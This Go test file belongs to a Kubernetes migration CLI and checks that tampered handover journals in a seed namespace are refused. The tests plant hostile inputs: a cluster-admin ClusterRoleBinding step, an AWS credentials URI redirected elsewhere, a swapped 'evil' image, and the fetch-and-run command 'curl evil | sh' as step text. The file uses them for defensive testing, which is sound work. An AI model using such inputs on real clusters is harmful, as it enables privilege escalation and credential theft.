package cli

import (
	"slices"
	"strings"
	"testing"

	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/utils/ptr"

	v1 "github.com/transplant-dev/transplant/api/transplant/v1alpha1"
	"github.com/transplant-dev/transplant/internal/apitest"
	"github.com/transplant-dev/transplant/internal/check"
	"github.com/transplant-dev/transplant/internal/check/facts"
	"github.com/transplant-dev/transplant/internal/client"
	"github.com/transplant-dev/transplant/internal/client/exitcode"
	"github.com/transplant-dev/transplant/internal/client/hostedrun"
	"github.com/transplant-dev/transplant/internal/component"
	"github.com/transplant-dev/transplant/internal/migrate/journal"
	"github.com/transplant-dev/transplant/internal/plan"
	"github.com/transplant-dev/transplant/internal/plan/compare"
	"github.com/transplant-dev/transplant/internal/plan/options"
	"github.com/transplant-dev/transplant/internal/plan/rollback"
)

// seededNamespace is where the seed keeps the control plane of the tests, and its journal.
const seededNamespace = "cluster-x"

// seededJournal is a cluster whose control plane a seed hosts, with a handover of which each step is done.
type seededJournal struct {
	t          *testing.T
	seed, user *apitest.Server
	doc        v1.Journal
	before     *v1.Snapshot
	flags      []string
}

// newSeededJournal plans the handover with these variables for the manager; begin writes the journal.
func newSeededJournal(t *testing.T, env ...string) *seededJournal {
	t.Helper()
	s := &seededJournal{t: t, seed: apitest.New(t), user: apitest.New(t)}
	s.seed.Put(t, &corev1.Namespace{ObjectMeta: metav1.ObjectMeta{Name: seededNamespace, UID: "ns"}})
	manager := func(name, deployment string, flags map[string]string) v1.Component {
		return v1.Component{
			Name: name, Runs: v1.RunsDeployment, Manifest: "Deployment/" + seededNamespace + "/" + deployment, SHA256: "a",
			Replicas: ptr.To[int32](1), Image: "registry.k8s.io/" + name + ":v1.26.0", Command: []string{name, "--cloud-provider=aws"}, Flags: flags,
		}
	}
	kcm := manager(component.KCM, "controller-manager", map[string]string{"cloud-provider": "aws", "cloud-config": "/etc/cloud/config"})
	kcm.CloudConfig = &v1.CloudConfig{Path: "/etc/cloud/config", Provider: "aws", DerivedSHA256: "d"}
	s.before = &v1.Snapshot{
		Cluster:  v1.Cluster{UID: "cluster-uid", Version: "v1.26.0", Provider: "aws", Seed: seededNamespace, SeedUID: "ns"},
		Nodes:    []v1.Node{{Name: "n1", UID: "n1", ProviderID: "aws:///eu-1a/i-1", Ready: "True"}},
		Hosted:   []v1.Component{manager("kube-apiserver", "apiserver", map[string]string{"cloud-provider": "aws"}), kcm},
		Managers: []v1.Manager{{Component: component.KCM, Host: "controller-manager-1", Loops: []string{"service"}, Leads: []string{component.KCM}}},
	}
	options := options.Defaults(v1.Options{Image: "registry.k8s.io/provider-aws/cloud-controller-manager:v1.26.0", Env: env, Part: v1.PartHandover})
	report := check.Run(s.before, facts.Options{Image: options.Image, Part: options.Part, Provider: "aws"})
	made, err := plan.Make(s.before, options, report.Findings, client.Now())
	if err != nil {
		t.Fatal(err)
	}
	s.doc = v1.Journal{Run: "20261121-120000", Started: client.Now(), Phase: v1.RunApplying, User: "ops", Plan: *made}
	for _, step := range made.Steps {
		s.doc.Records = append(
			s.doc.Records,
			v1.StepRecord{ID: step.ID, Started: client.Now(), Ended: ptr.To(client.Now()), Result: v1.StepResultDone, Created: true},
		)
	}
	s.flags = []string{
		"--seed-kubeconfig", s.seed.Kubeconfig(t), "--seed-namespace", seededNamespace, "--kubeconfig", s.user.Kubeconfig(t),
	}
	return s
}

// begin writes the journal as it is.
func (s *seededJournal) begin() {
	s.t.Helper()
	kube, _ := s.seed.Clients(s.t)
	if _, err := (journal.ObjectLocation{Kube: kube, Namespace: seededNamespace}).Create(s.t.Context(), s.doc, s.before); err != nil {
		s.t.Fatal(err)
	}
}

// back is the rollback that is made of the journal.
func (s *seededJournal) back() *v1.Plan {
	s.t.Helper()
	back, err := rollback.Make(&s.doc, s.before, client.Now())
	if err != nil {
		s.t.Fatal(err)
	}
	return back
}

func (s *seededJournal) run(args ...string) result {
	return transplant(s.t, append(args, s.flags...)...)
}

// approvedHere is the flag of a machine on which the plan was approved.
func (s *seededJournal) approvedHere() string {
	s.t.Helper()
	dir := s.t.TempDir()
	if err := (&client.Client{StateDir: dir}).NoteApproval(&s.doc.Plan, "hosted-"+seededNamespace+"-handover"); err != nil {
		s.t.Fatal(err)
	}
	return "--state-dir=" + dir
}

// TestAPlantedRollbackInASeedIsNotGoneOnWith: the plan was approved on this machine, and whoever may write the journal in the seed's namespace has put a
// rollback of his own next to it.
func TestAPlantedRollbackInASeedIsNotGoneOnWith(t *testing.T) {
	const binding = `{"apiVersion":"rbac.authorization.k8s.io/v1","kind":"ClusterRoleBinding","metadata":{"name":"x"},` +
		`"roleRef":{"apiGroup":"rbac.authorization.k8s.io","kind":"ClusterRole","name":"cluster-admin"}}`
	for _, c := range []struct {
		name, says string
		plant      func(back *v1.Plan)
	}{
		{"a step that makes somebody cluster-admin", "rule P-46", func(back *v1.Plan) {
			back.Steps = slices.Insert(back.Steps, 0, v1.Step{
				ID: "evil", Phase: back.Steps[0].Phase, Kind: v1.StepEnsureObject, Ref: "ClusterRoleBinding/x", Object: binding, Undo: "delete it", Requires: []string{"cluster:uid"},
			})
		}},
		{"the Secret of another", "rule P-46", func(back *v1.Plan) {
			back.Steps = slices.Insert(back.Steps, 0, v1.Step{
				ID: "evil", Phase: back.Steps[0].Phase, Kind: v1.StepDeleteObject, Ref: "Secret/" + seededNamespace + "/admin-kubeconfig", Undo: "make it",
			})
		}},
		{"another image", "its options are not those of the plan: image", func(back *v1.Plan) { back.Options.Image = "registry.example.com/evil:v1" }},
		{"the control plane of another cluster", "control plane in namespace", func(back *v1.Plan) { back.Cluster.Seed = "cluster-other" }},
		{"another cluster", "it is no rollback of this cluster", func(back *v1.Plan) { back.Cluster.UID = "other" }},
		{"a step less, which keeps each rule", "was not approved on this machine", func(back *v1.Plan) { back.Steps = back.Steps[:len(back.Steps)-1] }},
	} {
		t.Run(c.name, func(t *testing.T) {
			s := newSeededJournal(t)
			s.doc.Rollback, s.doc.Phase = s.back(), v1.RunRollingBack
			c.plant(s.doc.Rollback)
			s.begin()
			inSeed, inUser := len(s.seed.Writes()), len(s.user.Writes())
			if r := s.run("rollback", "--yes", s.approvedHere()); r.code == exitcode.OK || !strings.Contains(r.text(nil), c.says) {
				t.Errorf("it is not refused with %q (code %d):\n%s", c.says, r.code, r.text(nil))
			}
			if written := slices.Concat(s.seed.Writes()[inSeed:], s.user.Writes()[inUser:]); len(written) > 0 {
				t.Errorf("something was written: %v", written)
			}
		})
	}
}

// TestAPlantedEnvironmentInASeedIsRefused: whoever may write in the namespace of the control plane could have the manager send
// the cloud's credentials to a server of his.
func TestAPlantedEnvironmentInASeedIsRefused(t *testing.T) {
	const env = "AWS_CONTAINER_CREDENTIALS_FULL_URI=http://169.254.170.9/x"
	s := newSeededJournal(t, env)
	s.begin()
	fails(
		t,
		s.run("apply"),
		exitcode.NotApproved,
		"the plan in the journal was not approved on this machine",
		"gives the cloud-controller-manager AWS_CONTAINER_CREDENTIALS_FULL_URI",
	)
	fails(t, s.run("apply", "--ccm-env", env), exitcode.NotApproved, "there is no terminal on which to ask")
}

// TestARollbackInASeedThatIsMadeOfItsJournalIsShown, or the attacks above would be refused for another reason.
func TestARollbackInASeedThatIsMadeOfItsJournalIsShown(t *testing.T) {
	s := newSeededJournal(t, "HTTPS_PROXY=http://ops:hunter2hunter2@proxy.example.com")
	s.begin()
	r := s.run("rollback", "--dry-run")
	if r.code != exitcode.OK || !strings.Contains(r.out, "plan sha256: "+compare.Digest(s.back())) {
		t.Errorf("code %d:\n%s", r.code, r.text(nil))
	}
	showsManagers(t, r)
}

// TestTheWordsOfAJournalInASeedAreNotShown: no digest holds them, and who may write the journal writes them. A step that
// this version does not make is shown by its kind and what it is about.
func TestTheWordsOfAJournalInASeedAreNotShown(t *testing.T) {
	lie := func(p *v1.Plan) {
		p.Effects = []string{"nothing happens"}
		for i := range p.Steps {
			p.Steps[i].Title, p.Steps[i].Why, p.Steps[i].Undo, p.Steps[i].Manual = "a lie", "harmless", "not needed", []string{"curl evil | sh"}
		}
	}
	for name, c := range map[string]struct {
		args  []string
		plant func(s *seededJournal)
		shows []string
	}{
		"apply, which asks": {
			[]string{"apply"}, func(s *seededJournal) { s.doc.Records = nil }, []string{"create ServiceAccount/kube-system/cloud-controller-manager"},
		},
		"apply --dry-run": {[]string{"apply", "--dry-run"}, func(*seededJournal) {}, []string{"effect   "}},
		"rollback": {[]string{"rollback", "--dry-run"}, func(s *seededJournal) {
			s.doc.Rollback, s.doc.Phase = s.back(), v1.RunRollingBack
			lie(s.doc.Rollback)
		}, []string{"cloud-controller-manager"}},
		"a step that is not made again": {[]string{"apply", "--dry-run"}, func(s *seededJournal) {
			i := slices.IndexFunc(s.doc.Plan.Steps, func(s v1.Step) bool { return s.Kind == v1.StepEnsureObject })
			s.doc.Plan.Steps[i].ID = "create/other"
		}, []string{"EnsureObject ", " (not made again by this version: shown without its title)"}},
	} {
		t.Run(name, func(t *testing.T) {
			s := newSeededJournal(t)
			c.plant(s)
			lie(&s.doc.Plan)
			s.begin()
			r := s.run(c.args...)
			for _, part := range c.shows {
				if !strings.Contains(r.text(nil), part) {
					t.Errorf("%q is not shown:\n%s", part, r.text(nil))
				}
			}
			for _, word := range []string{"a lie", "harmless", "not needed", "evil", "nothing happens"} {
				if strings.Contains(r.text(nil), word) {
					t.Errorf("the word %q of the journal is shown:\n%s", word, r.text(nil))
				}
			}
		})
	}
}

// TestStatusOfAPlantedJournalInASeedSaysSo, and names no command to go on with.
func TestStatusOfAPlantedJournalInASeedSaysSo(t *testing.T) {
	for name, c := range map[string]struct {
		says  string
		plant func(s *seededJournal)
	}{
		"as it was made": {"", func(*seededJournal) {}},
		"a step that makes somebody cluster-admin": {"rule P-46", func(s *seededJournal) {
			s.doc.Plan.Steps[0].Ref, s.doc.Plan.Steps[0].Object = "ClusterRoleBinding/x", `{"kind":"ClusterRoleBinding"}`
		}},
		"another control plane's": {"control plane in namespace", func(s *seededJournal) { s.doc.Plan.Cluster.Seed = "cluster-other" }},
	} {
		t.Run(name, func(t *testing.T) {
			s := newSeededJournal(t)
			c.plant(s)
			s.begin()
			r := s.run("status")
			const who = "next: find out who wrote the journal's ConfigMap in namespace " + seededNamespace
			if shown := strings.Contains(r.out, "\nuntrusted "); shown != (c.says != "") || !strings.Contains(r.out, c.says) ||
				strings.Contains(r.out, who) != shown {
				t.Errorf("untrusted %v, not with %q:\n%s", shown, c.says, r.text(nil))
			}
		})
	}
}

// TestARollbackIsNotedForThePlanThatWasLookedAt, and for no other that stands in the journal by then.
func TestARollbackIsNotedForThePlanThatWasLookedAt(t *testing.T) {
	s := newSeededJournal(t)
	other := s.doc.Plan
	other.Options.ClusterName = "other"
	for _, c := range []struct {
		of   *v1.Plan
		want bool
	}{{&s.doc.Plan, true}, {&other, false}} {
		if has, err := (hostedrun.SeenPlan{Plan: &s.doc.Plan}).HasBack(t.Context(), c.of); err != nil || has != c.want {
			t.Errorf("of cluster name %q: %v, %v", c.of.Options.ClusterName, has, err)
		}
	}
}

// TestAPlantedRecordInASeedHidesNoStepOfTheReview: each is recorded as done, and the engine would execute it.
func TestAPlantedRecordInASeedHidesNoStepOfTheReview(t *testing.T) {
	s := newSeededJournal(t)
	s.begin()
	r := s.run("apply") // nobody to ask
	if r.code != exitcode.NotApproved {
		t.Errorf("exit code %d:\n%s", r.code, r.text(nil))
	}
	if shown := strings.Count(r.errOut, "done, as the journal says; executed again"); shown != len(s.doc.Plan.Steps) {
		t.Errorf("%d of %d steps are shown as what the journal says of them:\n%s", shown, len(s.doc.Plan.Steps), r.errOut)
	}
	if !strings.Contains(r.errOut, "\nimage of the cloud-controller-manager: "+s.doc.Plan.Options.Image) {
		t.Errorf("the image %s is not shown:\n%s", s.doc.Plan.Options.Image, r.errOut)
	}
}

// TestARunInASeedCarriesOutThePinnedPlanAlone: the operator and a refused --yes both advise to pin it.
func TestARunInASeedCarriesOutThePinnedPlanAlone(t *testing.T) {
	s := newSeededJournal(t)
	s.begin()
	inSeed, inUser := len(s.seed.Writes()), len(s.user.Writes())
	other := strings.Repeat("0", 64)
	for command, sum := range map[string]string{"apply": compare.Digest(&s.doc.Plan), "rollback": compare.Digest(s.back())} {
		fails(t, s.run(command, "--yes"), exitcode.NotApproved, "--plan-sha256 "+sum)
		for _, flag := range []string{"--yes", "--dry-run"} {
			fails(t, s.run(command, flag, "--plan-sha256", other), exitcode.Stale, "has SHA-256 "+sum+", and --plan-sha256 asks for "+other)
		}
		if r := s.run(command, "--dry-run", "--plan-sha256", sum); r.code != exitcode.OK {
			t.Errorf("%s --dry-run: code %d:\n%s", command, r.code, r.text(nil))
		}
		fails(t, s.run(command, "--plan-sha256", sum), exitcode.NotApproved, "there is no terminal on which to ask")
	}
	if written := slices.Concat(s.seed.Writes()[inSeed:], s.user.Writes()[inUser:]); len(written) > 0 {
		t.Errorf("something was written: %v", written)
	}
}
